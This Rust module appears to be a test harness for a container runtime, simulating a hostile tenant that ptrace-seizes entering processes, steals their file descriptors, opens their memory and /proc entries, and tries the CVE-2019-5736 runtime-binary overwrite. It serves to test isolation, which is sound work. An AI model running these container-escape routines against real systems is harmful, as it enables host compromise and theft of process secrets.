//! A tenant's attacks on whoever comes into his container, one word each.
//!
//! `trace SECONDS` tries to trace, and to steal descriptors of, every process that appears; `overwrite SECONDS` tries to
//! write to the programs that they run from; `swallow FILE` reads its input into memory that is FILE, which may never
//! be there; `connect SOCKET` connects; `impostor PID INIT`, from the host, is a process of INIT's namespaces by the
//! number PID, which waits to crash; `rob -` tries everything on the processes whose numbers it reads. The first two and
//! the last print what they achieved, a line each; nothing is good news.

use std::collections::BTreeSet;
use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use nix::sys::ptrace;
use nix::sys::socket::{AddressFamily, SockFlag, SockType, UnixAddr, connect, socket};
use nix::sys::wait::waitpid;
use nix::unistd::Pid;

use crate::sys;

/// Descriptors that are asked for.
const DESCRIPTORS: i32 = 24;

/// Does what the first word says.
pub(crate) fn run(words: &[String]) -> ExitCode {
    let (Some(word), Some(argument)) = (words.first(), words.get(1)) else {
        return ExitCode::from(2);
    };
    let seconds = Duration::from_secs(argument.parse().unwrap_or(1));
    match word.as_str() {
        "trace" => attack(seconds, trace),
        "overwrite" => attack(seconds, overwrite),
        "swallow" => return swallow(argument),
        "impostor" => return impostor(argument, words.get(2).map_or("", String::as_str)),
        "rob" => rob_all(),
        "connect" => say(&format!("{:?}", connect_to(argument))),
        _ => return ExitCode::from(2),
    }
    ExitCode::SUCCESS
}

/// What would take the attacker a whole round of numbers takes the host's root one call.
fn impostor(pid: &str, init: &str) -> ExitCode {
    let (Ok(pid), Ok(init)) = (pid.parse(), init.parse()) else {
        return ExitCode::from(2);
    };
    match sys::fork_as(pid, init) {
        Ok(None) => crate::victim(&["--wait".to_owned()]),
        Ok(Some(child)) => {
            let _ = waitpid(Pid::from_raw(child), None);
            ExitCode::SUCCESS
        }
        Err(_) => ExitCode::FAILURE,
    }
}

/// Attacks every process that was not there at the start, again and again.
fn attack(time: Duration, with: fn(i32)) {
    let start = Instant::now();
    let known: BTreeSet<i32> = processes().collect();
    say("ready");
    let mut seen = BTreeSet::new();
    while start.elapsed() < time {
        for pid in processes().filter(|pid| !known.contains(pid)) {
            seen.insert(pid);
            with(pid);
        }
    }
    say(&format!("saw {}", seen.len()));
}

fn processes() -> impl Iterator<Item = i32> {
    let names = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    names.filter_map(|entry| entry.file_name().to_str()?.parse().ok())
}

/// Seizes it, steals its descriptors, opens its memory.
fn trace(pid: i32) {
    let before = name(pid);
    let process = Pid::from_raw(pid);
    if ptrace::seize(process, ptrace::Options::empty()).is_ok() {
        // While a process executes something it is waited for, so what it is counts from here.
        say(&format!("seized {before}, then {}", name(pid)));
        if ptrace::interrupt(process).is_ok() {
            let _ = waitpid(process, None);
        }
        let _ = ptrace::detach(process, None);
    }
    for number in 0..DESCRIPTORS {
        if let Ok(stolen) = sys::steal(pid, number) {
            say(&format!(
                "stole {} of {before}, then {}",
                kind(&stolen),
                name(pid)
            ));
        }
    }
    if OpenOptions::new()
        .read(true)
        .write(true)
        .open(format!("/proc/{pid}/mem"))
        .is_ok()
    {
        say(&format!(
            "opened the memory of {before}, then {}",
            name(pid)
        ));
    }
}

/// Tries on one process after the other all that looks into it or takes something of it, and says what was gained.
fn rob_all() {
    for line in std::io::stdin().lines().map_while(Result::ok) {
        let gained = line
            .parse()
            .map_or_else(|_| vec!["no number".to_owned()], rob);
        say(&format!("{line}: {}", gained.join(", ")));
    }
}

/// A process that is traced by somebody else cannot be seized; what else there is asks for the same right (ptrace(2),
/// `PTRACE_MODE_ATTACH`), or for less.
fn rob(pid: i32) -> Vec<String> {
    let mut gained: Vec<String> = (0..DESCRIPTORS)
        .filter_map(|number| sys::steal(pid, number).ok())
        .map(|stolen| format!("descriptor {}", kind(&stolen)))
        .collect();
    let below = |name: &str| format!("/proc/{pid}/{name}");
    let read = |name: &&str| {
        let mut byte = [0];
        let read = File::open(below(name)).and_then(|mut file| file.read(&mut byte));
        read.is_ok_and(|length| length > 0)
    };
    let files = ["environ", "auxv", "maps", "syscall", "stack", "io"];
    let links = ["exe", "cwd", "root", "ns/mnt", "ns/user", "ns/net", "fd/0"];
    let leads = |name: &&str| std::fs::metadata(below(name)).is_ok();
    let (files, links) = (
        files.into_iter().filter(read),
        links.into_iter().filter(leads),
    );
    if File::open(below("mem")).is_ok() {
        gained.push("mem".to_owned());
    }
    gained.extend(files.chain(links).map(str::to_owned));
    // What everybody may read of a process: that of the host's should not be his.
    for name in ["mountinfo", "net/unix", "net/dev"] {
        let there = std::fs::read(below(name)).unwrap_or_default();
        let here = std::fs::read(format!("/proc/self/{name}")).unwrap_or_default();
        if !there.is_empty() && there != here {
            gained.push(format!("another {name}"));
        }
    }
    if sys::read_memory(pid).is_ok() {
        gained.push("memory".to_owned());
    }
    gained.extend(
        sys::namespaces(pid)
            .into_iter()
            .map(|name| format!("namespace {name}")),
    );
    gained
}

/// What a stolen descriptor leads to.
fn kind(stolen: &OwnedFd) -> String {
    let link = std::fs::read_link(format!("/proc/self/fd/{}", stolen.as_raw_fd()));
    let link = link.unwrap_or_default().display().to_string();
    link.split(':').next().unwrap_or_default().to_owned()
}

fn name(pid: i32) -> String {
    let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
    comm.trim().to_owned()
}

/// Writes to the program that it runs from (CVE-2019-5736).
fn overwrite(pid: i32) {
    let Ok(program) = OpenOptions::new()
        .read(true)
        .open(format!("/proc/{pid}/exe"))
    else {
        return;
    };
    let through = format!("/proc/self/fd/{}", program.as_raw_fd());
    let what = std::fs::read_link(&through).unwrap_or_default();
    // What is the container's own is no conquest.
    if Path::new("/").join(&what).exists() {
        return;
    }
    say(&format!("has {}", what.display()));
    for _ in 0..100 {
        let mut options = OpenOptions::new();
        let written = options
            .write(true)
            .open(&through)
            .and_then(|mut file| file.write(b"pwned"));
        if written.is_ok() {
            say(&format!("wrote to {}", what.display()));
            return;
        }
        std::thread::yield_now();
    }
}

/// Connects to a socket of records.
fn connect_to(path: &str) -> nix::Result<()> {
    let flags = SockFlag::SOCK_CLOEXEC;
    let socket = socket(AddressFamily::Unix, SockType::SeqPacket, flags, None)?;
    connect(socket.as_raw_fd(), &UnixAddr::new(Path::new(path))?)
}

/// Reads into memory whose pages somebody else has to bring.
fn swallow(path: &str) -> ExitCode {
    let Ok(file) = File::open(path) else {
        return ExitCode::from(4);
    };
    match sys::read_into(&file) {
        Ok(()) => ExitCode::SUCCESS,
        Err(_) => ExitCode::from(3),
    }
}

fn say(text: &str) {
    let mut stdout = std::io::stdout();
    drop(writeln!(stdout, "{text}").and_then(|()| stdout.flush()));
}
